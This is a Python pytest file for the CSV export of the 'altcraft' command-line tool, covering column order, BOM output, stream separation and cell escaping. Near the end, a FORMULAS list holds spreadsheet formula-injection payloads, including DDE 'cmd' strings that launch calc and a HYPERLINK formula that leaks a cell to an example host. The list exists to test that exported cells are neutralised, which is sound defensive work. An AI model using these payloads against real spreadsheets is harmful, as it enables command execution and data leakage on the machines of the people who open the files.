"""`--csv`: a header and a row a channel, and nothing else on stdout."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from altcraft import Counters
from altcraft.testing import reply
from plugins.cli.running import (
    DATABASE,
    EMAIL,
    FAILED,
    REFRESH,
    RUNNING,
    SEGMENT,
    STARTED,
    TASK_ID,
    Ran,
    completed,
    task_of,
)


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_a_refresh_gives_a_row_a_channel_with_what_was_counted(altcraft) -> None:
    ran = altcraft(*REFRESH, "--csv", script=[STARTED, RUNNING, completed(SEGMENT)])
    assert (ran.code, ran.err) == (0, "")
    email, push = rows_of(ran.out)
    assert (email["segment_id"], email["list_id"], email["resource_id"]) == ("7", "1", "24")
    assert (email["channel"], email["subscribed_sendable"]) == ("email", "209")
    assert email["updated"] == "2024-04-17T21:36:01.449000Z"
    assert email["task_id"] == TASK_ID
    assert (push["channel"], push["hardbounced"]) == ("push", "")
    assert set(Counters.documented) <= set(email)


def test_counters_have_the_time_of_reading(altcraft) -> None:
    ran = altcraft("databases", "counters", "5", "9", "--resource", "24", "--csv", script=[reply([EMAIL])], repeat=True)
    assert [(row["database_id"], row["channel"]) for row in rows_of(ran.out)] == [("5", "email"), ("9", "email")]
    assert all(row["read_at"].startswith("20") for row in rows_of(ran.out))


def test_the_header_names_the_counters_of_all_results(altcraft) -> None:
    odd = {"channel": "email", "status": {"snoozed": 3}}
    script = [reply([EMAIL]), reply([odd])]
    ran = altcraft("segments", "counters", "7", "8", "--resource", "24", "--csv", script=script)
    assert [row["snoozed"] for row in rows_of(ran.out)] == ["", "3"]


def test_the_columns_have_one_order_whichever_counters_come_first(altcraft) -> None:
    sent = [
        [{"channel": "email", "status": status}] for status in ({"zeal": 1}, {"subscribed": 2, "air": 3}, {"all": 4})
    ]
    headers = set()
    for script in (sent, sent[::-1]):
        ran = altcraft(
            "segments", "counters", "7", "8", "9", "--resource", "24", "--csv", script=[reply(each) for each in script]
        )
        headers.add(ran.out.splitlines()[0])
    (header,) = headers
    assert header == (
        f"segment_id,database_id,list_id,resource_id,updated,channel,{','.join(Counters.documented)},air,zeal,read_at"
    )


def test_the_columns_are_documented_in_their_order() -> None:
    page = (Path(__file__).parents[3] / "docs" / "reference" / "command-line.md").read_text("utf-8")
    _, _, table = page.partition("| column | meaning |\n|---|---|\n")
    names = re.findall(r"`(\w+)`", "".join(row.split("|")[1] for row in table.partition("\n\n")[0].splitlines()))
    columns = ("segment_id", "database_id", "list_id", "resource_id", "updated", "channel", *Counters.documented)
    assert names == ["section", "name", *columns, "task_id", "read_at"]


def test_for_excel_the_rows_begin_with_a_byte_order_mark(altcraft, tmp_path: Path) -> None:
    path = tmp_path / "counters.csv"
    arguments = ("segments", "counters", "7", "--resource", "24", "--csv", "--bom", "-o", str(path))
    assert altcraft(*arguments, script=[reply([EMAIL])]).code == 0
    assert path.read_bytes().startswith(b"\xef\xbb\xbfsegment_id,")
    assert path.read_text("utf-8-sig").startswith("segment_id,")
    ran = altcraft("segments", "counters", "7", "--resource", "24", "--bom")
    assert (ran.code, "--bom needs --csv" in ran.err) == (2, True)


def test_a_result_without_channels_is_a_header_alone(altcraft) -> None:
    ran = altcraft(*REFRESH, "--csv", script=[STARTED, completed()])
    assert ran.code == 0
    assert ran.out.count("\n") == 1
    assert ran.out.startswith("segment_id,")


def test_the_resume_token_of_a_late_task_is_on_stderr_and_the_rows_of_the_others_on_stdout(altcraft) -> None:
    def answer(request):
        return completed(DATABASE) if b'"b"' in request.body else RUNNING

    ran: Ran = altcraft("tasks", "wait", "a", "b", "--csv", "--timeout", "1", script=[answer], repeat=True)
    assert ran.code == 3
    assert [row["task_id"] for row in rows_of(ran.out)] == ["b"]
    assert "go on with: altcraft tasks wait" in ran.err


def test_without_any_result_nothing_is_written(altcraft) -> None:
    ran = altcraft(*REFRESH, "--csv", script=[STARTED, FAILED])
    assert (ran.code, ran.out) == (1, "")


def test_rows_into_a_file_leave_stdout_to_the_tokens(altcraft, tmp_path: Path) -> None:
    path = tmp_path / "rows.csv"
    args = ("tasks", "wait", "a", "b", "--csv", "-o", str(path), "--timeout", "1")
    ran = altcraft(
        *args, script=[lambda request: completed(DATABASE) if b'"b"' in request.body else RUNNING], repeat=True
    )
    assert ran.code == 3
    assert task_of(ran.out) == "a"
    assert [row["all"] for row in rows_of(path.read_text())] == ["1336"]


def test_a_result_that_is_no_statistics_is_1_and_ends_no_other(altcraft) -> None:
    def answer(request):
        return completed(DATABASE) if b'"b"' in request.body else reply({"status": "completed", "result": {"x": 1}})

    ran = altcraft("tasks", "wait", "a", "b", "--csv", script=[answer], repeat=True)
    assert ran.code == 1
    assert "has no rows" in ran.err
    assert len(rows_of(ran.out)) == 1


def test_the_status_line_of_a_task_is_on_stderr(altcraft) -> None:
    ran = altcraft("tasks", "status", "a", "--csv", script=[completed(DATABASE)])
    assert (ran.code, ran.err) == (0, "task a: completed, 100 %\n")
    assert len(rows_of(ran.out)) == 1


@pytest.mark.parametrize("order", [("--json", "--csv"), ("--csv", "--json")])
def test_rows_and_json_lines_exclude_each_other(altcraft, order: tuple[str, ...]) -> None:
    ran = altcraft(*REFRESH, *order, script=[STARTED])
    assert ran.code == 2
    assert "one of --json and --csv" in ran.out + ran.err


FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.com?x="&A1)',
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "  =1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\n=1+1",
]


def cells_as_a_spreadsheet_reads_them(text: str, separator: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize(
    "formula", [*FORMULAS, *(f"email{separator}{FORMULAS[0]}" for separator in (";", "\t", "\r", "\n"))]
)
def test_no_text_of_the_platform_is_a_formula(altcraft, formula: str, separator: str) -> None:
    odd = {"channel": formula, "status": {"all": -3, formula: formula, "note": {"why": formula}}}
    ran = altcraft("segments", "counters", "7", "--resource", "24", "--csv", script=[reply([odd])])
    assert ran.code == 0
    for cell in cells_as_a_spreadsheet_reads_them(ran.out, separator):
        begins = cell.lstrip(' \t\r\n\ufeff\0"')[:1]
        assert cell == "-3" or begins not in ("=", "+", "-", "@", "\uff1d"), cell
    (row,) = rows_of(ran.out)
    assert row["all"] == "-3"


@pytest.mark.parametrize("number", [-3, -0.25, 1e-7, "-3", "+7", "-1.5e+10"])
def test_a_number_stays_a_number_also_as_a_text(altcraft, number: object) -> None:
    odd = {"channel": "email", "status": {"change": number}}
    ran = altcraft("segments", "counters", "7", "--resource", "24", "--csv", script=[reply([odd])])
    (row,) = rows_of(ran.out)
    assert float(row["change"]) == float(str(number))


@pytest.mark.parametrize("text", ["a\rb", "a\nb", "a\r\nb", 'a"b', "a,b", "a\x00b"])
def test_a_text_stays_in_its_cell(altcraft, text: str) -> None:
    odd = {"channel": text, "status": {"all": 1}}
    ran = altcraft("segments", "counters", "7", "--resource", "24", "--csv", script=[reply([odd])])
    assert ran.out.count("\n") == 2 + text.count("\n")
    (row,) = csv.DictReader(io.StringIO(ran.out, newline=""))
    assert (row["channel"], row["all"]) == (text, "1")
